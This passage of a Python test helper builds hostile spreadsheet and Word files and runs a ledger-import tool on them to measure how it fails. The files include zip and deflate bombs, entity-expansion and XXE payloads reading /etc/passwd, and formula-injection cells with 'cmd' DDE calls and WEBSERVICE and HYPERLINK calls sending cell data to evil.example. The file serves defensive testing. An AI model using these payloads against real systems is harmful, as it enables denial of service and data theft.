"""Small hostile inputs for every command, and a runner that measures what the real command
does with them (exit code, peak memory, time, traceback).

The builders are used by ``test_attack.py`` and ``test_attack2.py``. Run as a script, it
builds every file in a folder and runs every command on each under an address-space limit and
a timeout, printing one line per run (the attack runs whose results are in
README 安全与可靠性); the hostile Word templates (``TEMPLATE_ATTACKS``) are
rendered with ``plan --template`` (command name ``template``)::

    python tests/hostile_files.py /tmp/attack [name-filter] [check,diff,template,…]
"""

from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from conftest import INFO, ROOT, good_row, write_ledger  # noqa: E402

LEDGER_PART = "xl/worksheets/sheet1.xml"


# ---------------------------------------------------------------------------------------------
# Zip surgery


def members(path: Path) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(i, z.read(i.filename)) for i in z.infolist()]


def rewrite(path: Path, change: dict[str, Callable[[bytes], bytes] | bytes], extra=()) -> None:
    """Rewrite the zip with members changed (a function of the old bytes, or new bytes) and
    ``extra`` (name, bytes) members appended."""
    items = members(path)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for info, data in items:
            new = change.get(info.filename, data)
            z.writestr(info.filename, new(data) if callable(new) else new)
        for name, data in extra:
            z.writestr(name, data)


def deflate_repeated(piece: bytes, times: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``piece * times`` built without holding it: one flushed block
    compressed once and repeated."""
    per_block = max(1, (16 << 20) // len(piece))
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(piece * per_block) + comp.flush(zlib.Z_FULL_FLUSH)
    n = max(1, times // per_block)
    return block * n, n * per_block * len(piece)


def bomb_stream(head: bytes, piece: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """A deflate stream of head + piece*times + tail: (stream, inflated size, crc)."""
    body, size = deflate_repeated(piece, times)
    c1 = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = c1.compress(head) + c1.flush(zlib.Z_FULL_FLUSH)
    c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = c2.compress(tail) + c2.flush()
    crc = zlib.crc32(head)
    one = piece * max(1, (16 << 20) // len(piece))
    one_crc_parts = size // len(one)
    for _ in range(one_crc_parts):  # cheap enough for the sizes used here (a few GB at most)
        crc = zlib.crc32(one, crc)
    crc = zlib.crc32(tail, crc)
    return start + body + end, len(head) + size + len(tail), crc


def write_raw_zip(path: Path, entries: list[tuple[str, bytes, int, int, int]]) -> None:
    """A zip from (name, stored bytes, method, crc, full size) entries, sizes as given."""
    out = io.BytesIO()
    central = []
    for name, data, method, crc, size in entries:
        offset = out.tell()
        raw = name.encode()
        flags = 0x800 if not name.isascii() else 0
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                flags,
                method,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(raw),
                0,
            )
        )
        out.write(raw)
        out.write(data)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                flags,
                method,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(raw),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw
        )
    cd_start = out.tell()
    for c in central:
        out.write(c)
    cd_size = out.tell() - cd_start
    n = len(central)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_start, 0))
    path.write_bytes(out.getvalue())


def replace_with_bomb(path: Path, member: str, head: bytes, piece: bytes, times: int, tail: bytes):
    """Replace ``member`` by a deflate bomb (CRC right, so nothing but size stops it)."""
    entries = []
    for info, data in members(path):
        if info.filename == member:
            stream, size, crc = bomb_stream(head, piece, times, tail)
            entries.append((member, stream, 8, crc, size))
        else:
            entries.append(
                (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
            )
    write_raw_zip(path, entries)


def base_ledger(path: Path, n: int = 3, **kw) -> Path:
    """A valid ledger written by XlsxWriter (shared strings, as Excel writes them)."""
    import datetime as dt

    import xlsxwriter
    from conftest import STANDARD_HEADER

    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False})
    date = wb.add_format({"num_format": "yyyy-mm-dd"})
    ws = wb.add_worksheet(kw.get("sheet", "整改台账"))
    ws.write_row(0, 0, STANDARD_HEADER)
    for r in range(1, n + 1):
        for c, v in enumerate(good_row(r)):
            if isinstance(v, dt.date):
                ws.write_datetime(r, c, dt.datetime.combine(v, dt.time()), date)
            else:
                ws.write(r, c, v)
    wi = wb.add_worksheet("基本信息")
    wi.write_row(0, 0, ["项目", "内容"])
    for r, (k, v) in enumerate(INFO.items(), start=1):
        wi.write(r, 0, k)
        if isinstance(v, dt.date):
            wi.write_datetime(r, 1, dt.datetime.combine(v, dt.time()), date)
        else:
            wi.write(r, 1, v)
    wb.close()
    return path


def add_part(path: Path, name: str, data: bytes, content_type: str = "") -> None:
    def ct(xml: bytes) -> bytes:
        if not content_type:
            return xml
        return xml.replace(
            b"</Types>",
            f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode(),
        )

    rewrite(path, {"[Content_Types].xml": ct}, extra=[(name, data)])


def sheet_rel(path: Path, kind: str, target: str) -> None:
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    names = {i.filename for i, _ in members(path)}
    rel = (
        f'<Relationship Id="rIdX{kind}" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}"/>'
    )
    if rels in names:
        rewrite(
            path,
            {rels: lambda x: x.replace(b"</Relationships>", rel.encode() + b"</Relationships>")},
        )
    else:
        xml = (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{rel}</Relationships>'
        )
        rewrite(path, {}, extra=[(rels, xml.encode())])


# ---------------------------------------------------------------------------------------------
# Hostile ledgers. Each builder writes ``path`` (an .xlsx unless it says otherwise).

BUILDERS: dict[str, Callable[[Path], Path]] = {}


def builder(name: str, suffix: str = ".xlsx"):
    def wrap(fn: Callable[[Path], Path | None]) -> Callable[[Path], Path]:
        def build(folder: Path) -> Path:
            path = folder / f"{name}{suffix}"
            out = fn(path)
            return out or path

        BUILDERS[name] = build
        return build

    return wrap


def _part_bomb(member: str, head: bytes, piece: bytes, tail: bytes, gb: float = 2.0):
    def fn(path: Path) -> None:
        base_ledger(path)
        names = {i.filename for i, _ in members(path)}
        if member not in names:
            add_part(path, member, b"x")
        replace_with_bomb(path, member, head, piece, int(gb * (1 << 30)) // len(piece), tail)

    return fn


_SST_HEAD = (
    b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
for _name, _member, _head, _piece, _tail in [
    ("bomb-styles", "xl/styles.xml", b"<styleSheet>", b" ", b"</styleSheet>"),
    ("bomb-content-types", "[Content_Types].xml", b"<Types>", b" ", b"</Types>"),
    ("bomb-docprops", "docProps/app.xml", b"<Properties>", b" ", b"</Properties>"),
    ("bomb-calcchain", "xl/calcChain.xml", b"<calcChain>", b'<c r="A1" i="1"/>', b"</calcChain>"),
    ("bomb-workbook-xml", "xl/workbook.xml", b"<workbook>", b" ", b"</workbook>"),
    (
        "bomb-workbook-rels",
        "xl/_rels/workbook.xml.rels",
        b"<Relationships>",
        b" ",
        b"</Relationships>",
    ),
    (
        "bomb-sheet-rels",
        "xl/worksheets/_rels/sheet1.xml.rels",
        b"<Relationships>",
        b" ",
        b"</Relationships>",
    ),
    ("bomb-theme", "xl/theme/theme1.xml", b"<a:theme>", b" ", b"</a:theme>"),
]:
    builder(_name)(_part_bomb(_member, _head, _piece, _tail))


@builder("bomb-sst-under-cap")
def _sst_15mb_each(path: Path) -> None:
    """Shared strings just under the ratio floor but hugely repetitive: 15 MB of one string
    referenced by every cell of a 13-column ledger (the grid is fine, the text is 15 MB)."""
    base_ledger(path)
    replace_with_bomb(
        path,
        "xl/sharedStrings.xml",
        _SST_HEAD,
        b"<si><t>" + b"a" * 1000 + b"</t></si>",
        15_000,
        b"</sst>",
    )


@builder("bomb-comments")
def _comments_bomb(path: Path) -> None:
    base_ledger(path)
    sheet_rel(path, "comments", "../comments1.xml")
    add_part(
        path,
        "xl/comments1.xml",
        b"x",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml",
    )
    replace_with_bomb(
        path,
        "xl/comments1.xml",
        b"<comments><commentList>",
        b" ",
        900 << 20,
        b"</commentList></comments>",
    )


@builder("bomb-vml")
def _vml_bomb(path: Path) -> None:
    base_ledger(path)
    sheet_rel(path, "vmlDrawing", "../drawings/vmlDrawing1.vml")
    add_part(path, "xl/drawings/vmlDrawing1.vml", b"x")
    replace_with_bomb(path, "xl/drawings/vmlDrawing1.vml", b"<xml>", b" ", 900 << 20, b"</xml>")


@builder("vml-unclosed-shapes")
def _vml_unclosed(path: Path) -> None:
    """A VML drawing of many ``<v:shape`` openings without an end: a lazy ``.*?</v:shape>``
    search from each one reads to the end of the part (quadratic)."""
    base_ledger(path)
    sheet_rel(path, "vmlDrawing", "../drawings/vmlDrawing1.vml")
    add_part(path, "xl/drawings/vmlDrawing1.vml", b"<xml>" + b"<v:shape >" * 300_000 + b"</xml>")


@builder("comments-many")
def _comments_many(path: Path) -> None:
    base_ledger(path)
    sheet_rel(path, "comments", "../comments1.xml")
    body = b"".join(
        b'<comment ref="A%d" authorId="0"><text><t>x</t></text></comment>' % (i + 1)
        for i in range(300_000)
    )
    add_part(
        path,
        "xl/comments1.xml",
        b'<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors><author>a</author></authors><commentList>'
        + body
        + b"</commentList></comments>",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml",
    )


@builder("many-members")
def _many_members(path: Path) -> None:
    base_ledger(path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as z:
        for i in range(100_000):
            z.writestr(f"x/{i}.bin", b"")


@builder("many-small-bombs")
def _many_small_bombs(path: Path) -> None:
    """400 parts of 15 MB spaces each (under the per-part ratio floor): 6 GB in all."""
    base_ledger(path)
    entries = []
    for info, data in members(path):
        entries.append(
            (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
        )
    stream, size, crc = bomb_stream(b"", b" ", 15 << 20, b"")
    for i in range(400):
        entries.append((f"xl/media/junk{i}.xml", stream, 8, crc, size))
    write_raw_zip(path, entries)


@builder("duplicate-sheet-member")
def _duplicate_member(path: Path) -> None:
    """Two members named like the ledger sheet: one small, one a bomb (which one a reader
    takes depends on the reader)."""
    base_ledger(path)
    items = members(path)
    entries = []
    for info, data in items:
        entries.append(
            (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
        )
    sheet = dict((i.filename, d) for i, d in items)[LEDGER_PART]
    head, rest = sheet.split(b"</sheetData>")
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (r, r)
        for r in range(100, 101)
    )
    stream, size, crc = bomb_stream(head, rows, 1, b" " * 0 + b"</sheetData>" + rest)
    big, bsize, bcrc = bomb_stream(
        head.replace(b"<sheetData>", b"<sheetData>"), b" ", 3 << 30, b"</sheetData>" + rest
    )
    entries.insert(0, (LEDGER_PART, big, 8, bcrc, bsize))
    write_raw_zip(path, entries)


@builder("central-size-lies-small")
def _lies_small(path: Path) -> None:
    """The central directory says the sheet is small; the local header and data are a bomb."""
    base_ledger(path)
    replace_with_bomb(
        path, LEDGER_PART, b"<worksheet><sheetData>", b" ", 3 << 30, b"</sheetData></worksheet>"
    )
    data = bytearray(path.read_bytes())
    eocd = data.rfind(b"PK\x05\x06")
    pos = struct.unpack_from("<I", data, eocd + 16)[0]
    while data[pos : pos + 4] == b"PK\x01\x02":
        n, e, c = struct.unpack_from("<HHH", data, pos + 28)
        if data[pos + 46 : pos + 46 + n] == LEDGER_PART.encode():
            struct.pack_into("<I", data, pos + 24, 5000)
        pos += 46 + n + e + c
    path.write_bytes(bytes(data))


@builder("deep-nesting-sheet")
def _deep_sheet(path: Path) -> None:
    base_ledger(path)
    deep = b"<x>" * 500_000 + b"</x>" * 500_000
    rewrite(path, {LEDGER_PART: lambda x: x.replace(b"</sheetData>", b"</sheetData>" + deep)})


@builder("deep-nesting-workbook")
def _deep_workbook(path: Path) -> None:
    base_ledger(path)
    deep = b"<x>" * 500_000 + b"</x>" * 500_000
    rewrite(path, {"xl/workbook.xml": lambda x: x.replace(b"</sheets>", b"</sheets>" + deep)})


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)


def _with_doctype(xml: bytes, use: bytes = b"&lol9;") -> bytes:
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    return _LAUGHS + body.replace(b"<t>", b"<t>" + use, 1)


for _name, _member in [
    ("laughs-sst", "xl/sharedStrings.xml"),
    ("laughs-workbook", "xl/workbook.xml"),
    ("laughs-styles", "xl/styles.xml"),
    ("laughs-sheet", LEDGER_PART),
    ("laughs-content-types", "[Content_Types].xml"),
]:

    def _laughs(path: Path, member: str = _member) -> None:
        base_ledger(path)
        names = {i.filename for i, _ in members(path)}
        if member not in names:
            return
        rewrite(path, {member: _with_doctype})

    builder(_name)(_laughs)


@builder("xxe-sst")
def _xxe(path: Path) -> None:
    base_ledger(path)
    doctype = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    rewrite(
        path,
        {
            "xl/sharedStrings.xml": lambda x: (
                doctype + x.split(b"?>", 1)[1].replace(b"<t>", b"<t>&e;", 1)
            )
        },
    )


@builder("huge-shared-string")
def _huge_sst(path: Path) -> None:
    """One shared string of 100 MB (varied enough to pass the ratio check) in 问题 of row 2."""
    base_ledger(path)
    import random

    rnd = random.Random(1)
    chunk = "".join(rnd.choice("整改落实责任制度问题措施") for _ in range(1 << 16)).encode()
    big = chunk * (100 * (1 << 20) // len(chunk))
    entries = []
    for info, data in members(path):
        if info.filename == "xl/sharedStrings.xml":
            data = data.replace(b"<t>\xe9\x97\xae\xe9\xa2\x981</t>", b"<t>" + big + b"</t>", 1)
        entries.append(
            (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
        )
    write_raw_zip(path, entries)


@builder("many-shared-strings")
def _many_sst(path: Path) -> None:
    """400,000 rows, each with its own 32 k-character shared string in column D … no: each
    row refers to one 32 k-character string (Excel's cell limit)."""
    base_ledger(path)
    s = ("整改" * 16000)[:32000]
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="D%d" t="inlineStr"><is><t>%s</t></is></c></row>'
        % (r, r, r, r, s.encode())
        for r in range(5, 5 + 20_000)
    )
    rewrite(path, {LEDGER_PART: lambda x: x.replace(b"</sheetData>", rows + b"</sheetData>")})


@builder("wide-16384")
def _wide(path: Path) -> None:
    header = [f"列{i}" for i in range(16384)]
    header[:13] = good_row(0)[:0] or header[:13]
    from conftest import STANDARD_HEADER

    header[: len(STANDARD_HEADER)] = STANDARD_HEADER
    rows = [good_row(i) + [f"v{j}" for j in range(16384 - 13)] for i in range(1, 4)]
    write_ledger(path, rows, header, info=INFO)


def _with_merges(path: Path, cells: bytes, count: int) -> None:
    """``path``'s ledger sheet with ``<mergeCells>`` holding ``cells`` (``count`` of them)."""
    xml = b'<mergeCells count="%d">' % count + cells + b"</mergeCells>"
    rewrite(path, {LEDGER_PART: lambda x: x.replace(b"</sheetData>", b"</sheetData>" + xml, 1)})


@builder("merges-million")
def _merges(path: Path) -> None:
    base_ledger(path)
    cells = b"".join(b'<mergeCell ref="N%d:O%d"/>' % (r, r) for r in range(1, 1_000_001))
    _with_merges(path, cells, 1_000_000)


@builder("merges-overlapping")
def _merges_overlap(path: Path) -> None:
    """20,000 merged ranges that all cover A2:M20001 of a 20,000-row ledger."""
    write_ledger(path, [good_row(i) for i in range(1, 20_001)], info=INFO)
    _with_merges(path, b'<mergeCell ref="A2:M20001"/>' * 20_000, 20_000)


@builder("merges-overlapping-small")
def _merges_overlap_small(path: Path) -> None:
    """100,000 merged ranges each covering B2:B5001 of a 5,000-row ledger."""
    write_ledger(path, [good_row(i) for i in range(1, 5_001)], info=INFO)
    _with_merges(path, b'<mergeCell ref="B2:B5001"/>' * 100_000, 100_000)


@builder("hyperlinks-million")
def _links(path: Path) -> None:
    base_ledger(path)
    links = b"".join(b'<hyperlink ref="A%d" location="A1"/>' % r for r in range(1, 1_000_001))
    rewrite(
        path,
        {
            LEDGER_PART: lambda x: x.replace(
                b"</sheetData>", b"</sheetData><hyperlinks>" + links + b"</hyperlinks>", 1
            )
        },
    )


@builder("condformat-million")
def _cf(path: Path) -> None:
    base_ledger(path)
    cf = b"".join(
        b'<conditionalFormatting sqref="A%d"><cfRule type="expression" priority="%d"><formula>1</formula></cfRule></conditionalFormatting>'
        % (r, r)
        for r in range(1, 300_001)
    )
    rewrite(path, {LEDGER_PART: lambda x: x.replace(b"</sheetData>", b"</sheetData>" + cf, 1)})


@builder("defined-name-loop")
def _names(path: Path) -> None:
    base_ledger(path)
    names = b'<definedNames><definedName name="a">b</definedName><definedName name="b">a</definedName></definedNames>'
    rewrite(path, {"xl/workbook.xml": lambda x: x.replace(b"</sheets>", b"</sheets>" + names)})


def _rename_sheet(new: str) -> Callable[[Path], None]:
    def fn(path: Path) -> None:
        base_ledger(path)
        from xml.sax.saxutils import quoteattr

        rewrite(
            path,
            {
                "xl/workbook.xml": lambda x: x.replace(
                    b'name="\xe6\x95\xb4\xe6\x94\xb9\xe5\x8f\xb0\xe8\xb4\xa6"',
                    b"name=" + quoteattr(new).encode(),
                    1,
                )
            },
        )

    return fn


builder("sheet-name-control")(_rename_sheet("整改_x0001_台账\u202e"))
builder("sheet-name-long")(_rename_sheet("整改台账" * 20))
builder("sheet-name-specials")(_rename_sheet("整改/\\?*[]:'台账"))


@builder("formula-injection-cells")
def _injection(path: Path) -> None:
    rows = [
        good_row(
            1,
            整改措施='=HYPERLINK("http://evil.example/?x="&A1,"点我")',
            责任人="+cmd|' /C calc'!A0",
        ),
        good_row(2, 整改措施="@SUM(1+1)*cmd|' /C calc'!A0", 责任部门="-2+3+cmd|' /C calc'!A0"),
        good_row(3, 问题="=1+1", 整改措施="\t=1+1", 佐证材料='=WEBSERVICE("http://x")'),
    ]
    write_ledger(path, rows, info={**INFO, "单位名称": '=HYPERLINK("http://evil","单位")'})


@builder("live-formulas")
def _live(path: Path) -> None:
    base_ledger(path)

    def patch(xml: bytes) -> bytes:
        row = xml.index(b'<row r="2"')
        end = xml.index(b"</row>", row)
        cells = (
            b'<c r="N2" t="str"><f>cmd|\'/C calc\'!A0</f><v>0</v></c>'
            b'<c r="O2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A2)</f><v>x</v></c>'
            b'<c r="P2"><f>[1]Sheet1!A1</f><v>1</v></c>'
        )
        return xml[:end] + cells + xml[end:]

    rewrite(path, {LEDGER_PART: patch})


@builder("control-chars-cells")
def _control(path: Path) -> None:
    base_ledger(path)

    def patch(xml: bytes) -> bytes:
        return (
            xml.replace("措施1".encode(), "措施_x0001__x0007_\x0b一\u202e二\u200b".encode())
            .replace("办公室".encode(), "办公室_x001F_\u200f\ufeff".encode(), 2)
            .replace("问题2".encode(), "问题_xD800_二_xFFFE_".encode())
        )

    rewrite(path, {"xl/sharedStrings.xml": patch})


@builder("control-chars-info")
def _control_info(path: Path) -> None:
    base_ledger(path)
    rewrite(
        path,
        {
            "xl/sharedStrings.xml": lambda x: x.replace(
                "某区测试局".encode(), "某区_x0008_测试\u202e局_x0000_".encode()
            )
        },
    )


@builder("xlsm-vba")
def _xlsm(path: Path) -> Path:
    p = path.with_suffix(".xlsm")
    base_ledger(p)
    add_part(
        p,
        "xl/vbaProject.bin",
        b"\xd0\xcf\x11\xe0" + b"\0" * 2000,
        "application/vnd.ms-office.vbaProject",
    )
    return p


@builder("csv-as-xlsx")
def _csv(path: Path) -> None:
    path.write_text("序号,方面,问题\n1,a,b\n", encoding="utf-8")


@builder("empty-file")
def _empty(path: Path) -> None:
    path.write_bytes(b"")


@builder("directory-xlsx")
def _dir(path: Path) -> None:
    path.mkdir()


@builder("xls-as-xlsx")
def _xls_named_xlsx(path: Path) -> None:
    path.write_bytes(_xls_bytes(huge_sst=False))


@builder("xls-huge-sst", ".xls")
def _xls_huge(path: Path) -> None:
    path.write_bytes(_xls_bytes(huge_sst=True))


@builder("xls-bogus-records", ".xls")
def _xls_bogus(path: Path) -> None:
    path.write_bytes(_xls_bytes(huge_sst=False, bogus=True))


@builder("xls-huge-dimensions", ".xls")
def _xls_dims(path: Path) -> None:
    path.write_bytes(_xls_bytes(huge_sst=False, dims=True))


@builder("unreadable")
def _unreadable(path: Path) -> None:
    base_ledger(path)
    path.chmod(0)


@builder("odd-path-\n-name")
def _odd(path: Path) -> None:
    base_ledger(path)


@builder("-dash-name")
def _dash(path: Path) -> None:
    base_ledger(path)


@builder("truncated-central")
def _truncated(path: Path) -> None:
    base_ledger(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) - 40])


@builder("zip64-huge-claim")
def _zip64(path: Path) -> None:
    """The sheet's ZIP64 extra field claims 2**62 bytes."""
    base_ledger(path)
    data = bytearray(path.read_bytes())
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack_from("<II", data, eocd + 12)
    out = bytearray(data[:cd_off])
    pos = cd_off
    added = 0
    while data[pos : pos + 4] == b"PK\x01\x02":
        n, e, c = struct.unpack_from("<HHH", data, pos + 28)
        rec = bytearray(data[pos : pos + 46 + n + e + c])
        if rec[46 : 46 + n] == LEDGER_PART.encode():
            csize = struct.unpack_from("<I", rec, 20)[0]
            struct.pack_into("<II", rec, 20, 0xFFFFFFFF, 0xFFFFFFFF)
            extra = struct.pack("<HHQQ", 1, 16, 1 << 62, csize)
            rec = rec[: 46 + n] + extra + rec[46 + n :]
            struct.pack_into("<H", rec, 30, e + len(extra))
            added += len(extra)
        out += rec
        pos += 46 + n + e + c
    tail = bytearray(data[eocd:])
    struct.pack_into("<I", tail, 12, cd_size + added)
    path.write_bytes(bytes(out + tail))


# --- .xls (BIFF8 in a compound file) -------------------------------------------------------


def _biff(rtype: int, data: bytes) -> bytes:
    return struct.pack("<HH", rtype, len(data)) + data


def _xls_bytes(*, huge_sst: bool, bogus: bool = False, dims: bool = False) -> bytes:
    """A minimal BIFF8 workbook with one sheet, in a compound file."""

    def bof(kind: int) -> bytes:
        return _biff(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x06))

    def s(text: str) -> bytes:
        raw = text.encode("utf-16-le")
        return struct.pack("<HB", len(text), 1) + raw

    strings = ["序号", "问题", "整改措施"]
    sst_body = b"".join(s(t) for t in strings)
    count = 0x7FFFFFFF if huge_sst else len(strings)
    sst = _biff(0x00FC, struct.pack("<II", count, count) + sst_body)
    sheet_name = "整改台账"

    def boundsheet_data(off):
        return (
            struct.pack("<IBB", off, 0, 0)
            + struct.pack("<BB", len(sheet_name), 1)
            + sheet_name.encode("utf-16-le")
        )  # noqa: E731

    globals_ = bof(0x0005) + _biff(0x0042, struct.pack("<H", 1200))
    bs_len = len(_biff(0x0085, boundsheet_data(0)))
    eof = _biff(0x000A, b"")
    sheet_off = len(globals_) + bs_len + len(sst) + len(eof)
    globals_ += _biff(0x0085, boundsheet_data(sheet_off)) + sst + eof
    dim = struct.pack("<IIHHH", 0, 0xFFFFFFF if dims else 3, 0, 0x3FFF if dims else 3, 0)
    cells = b"".join(_biff(0x00FD, struct.pack("<HHHI", 0, c, 0, c)) for c in range(3))
    if bogus:
        cells += struct.pack("<HH", 0x00FD, 0xFFFF) + b"\0" * 10
    sheet = bof(0x0010) + _biff(0x0200, dim) + cells + eof
    return _cfb({"Workbook": globals_ + sheet})


def _cfb(streams: dict[str, bytes]) -> bytes:
    """A compound file (version 3, 512-byte sectors) holding ``streams`` (each ≥ 4096 bytes
    padded so no mini stream is needed)."""
    sector = 512
    data_sectors: list[bytes] = []
    entries = []
    for name, data in streams.items():
        data = data + b"\0" * (max(4096, len(data)) - len(data))
        start = len(data_sectors)
        padded = data + b"\0" * (-len(data) % sector)
        data_sectors += [padded[i : i + sector] for i in range(0, len(padded), sector)]
        entries.append((name, start, len(data)))
    dir_start = len(data_sectors)
    n_dir = 1
    fat_start = dir_start + n_dir
    n_fat = 1
    fat = [0xFFFFFFFF] * (sector // 4)
    for _name, start, size in entries:
        count = (size + sector - 1) // sector
        for k in range(count):
            fat[start + k] = start + k + 1 if k < count - 1 else 0xFFFFFFFE
    fat[dir_start] = 0xFFFFFFFE
    fat[fat_start] = 0xFFFFFFFD

    def direntry(name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, child)
            + b"\0" * 16
            + b"\0" * 4
            + b"\0" * 16
            + struct.pack("<IIi", start, size, 0)
        )

    dirs = direntry("Root Entry", 5, 0xFFFFFFFE, 0, 1)
    for name, start, size in entries:
        dirs += direntry(name, 2, start, size)
    dirs = dirs.ljust(sector, b"\0")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIII", 0, n_fat, dir_start, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE)
        + struct.pack("<I", 0)
        + struct.pack("<I", fat_start)
        + struct.pack("<108I", *([0xFFFFFFFF] * 108))
    )
    header = header[:76] + struct.pack("<I", fat_start) + header[80:]
    fat_bytes = struct.pack(f"<{sector // 4}I", *fat)
    return header + b"".join(data_sectors) + dirs + fat_bytes


# ---------------------------------------------------------------------------------------------
# Documents to import

DOC_BUILDERS: dict[str, Callable[[Path], Path]] = {}


def doc_builder(name: str, suffix: str = ".docx"):
    def wrap(fn: Callable[[Path], Path | None]) -> Callable[[Path], Path]:
        def build(folder: Path) -> Path:
            path = folder / f"{name}{suffix}"
            return fn(path) or path

        DOC_BUILDERS[name] = build
        return build

    return wrap


def base_docx(path: Path, paragraphs: list[str] | None = None) -> Path:
    import docx

    d = docx.Document()
    for text in paragraphs or [
        "关于落实巡察反馈意见的整改方案",
        "一、加强理论学习方面",
        "（一）学习不深入。",
        "1.制定学习计划。",
    ]:
        d.add_paragraph(text)
    d.save(str(path))
    return path


_DOC = "word/document.xml"


def _docx_body_bomb(path: Path, piece: bytes, times: int) -> None:
    """document.xml whose body is ``piece`` repeated ``times`` times, as a deflate bomb."""
    base_docx(path)
    xml = dict((i.filename, d) for i, d in members(path))[_DOC]
    head, tail = xml.split(b"<w:body>")
    replace_with_bomb(path, _DOC, head + b"<w:body>", piece, times, tail)


@doc_builder("docx-bomb")
def _docx_bomb(path: Path) -> None:
    _docx_body_bomb(path, b" ", 3 << 30)


@doc_builder("docx-bomb-paragraphs")
def _docx_bomb_paras(path: Path) -> None:
    """document.xml of 300 MB of short paragraphs, compressed as a bomb."""
    _docx_body_bomb(path, b"<w:p><w:r><w:t>1.x</w:t></w:r></w:p>", (300 << 20) // 36)


@doc_builder("docx-million-paragraphs")
def _docx_million(path: Path) -> None:
    base_docx(path)
    paras = b"".join(
        b"<w:p><w:r><w:t>%d.\xe6\x8e\xaa\xe6\x96\xbd%d</w:t></w:r></w:p>" % (i % 9 + 1, i)
        for i in range(1_000_000)
    )
    rewrite(path, {_DOC: lambda x: x.replace(b"<w:sectPr", paras + b"<w:sectPr", 1)})


def _nested_body(path: Path, opening: bytes, closing: bytes, after: bytes = b"") -> None:
    """A paragraph 5000 elements deep (lxml's nesting limit is far below that)."""
    base_docx(path)
    depth = 5000
    nest = opening * depth + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" + closing * depth
    rewrite(path, {_DOC: lambda x: x.replace(b"<w:sectPr", nest + after + b"<w:sectPr", 1)})


@doc_builder("docx-nested-tables")
def _docx_nested(path: Path) -> None:
    _nested_body(path, b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>", b"<w:p/>")


@doc_builder("docx-nested-sdt")
def _docx_sdt(path: Path) -> None:
    _nested_body(path, b"<w:sdt><w:sdtContent>", b"</w:sdtContent></w:sdt>")


@doc_builder("docx-wide-gridspan")
def _docx_span(path: Path) -> None:
    base_docx(path)
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
    tbl = b"<w:tbl><w:tr>" + cell * 3 + b"</w:tr></w:tbl>"
    rewrite(path, {_DOC: lambda x: x.replace(b"<w:sectPr", tbl + b"<w:p/><w:sectPr", 1)})


@doc_builder("docx-numbering-loop")
def _docx_numbering(path: Path) -> None:
    base_docx(path)
    ns = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    numbering = (
        b"<w:numbering " + ns + b">"
        b'<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="S1"/>'
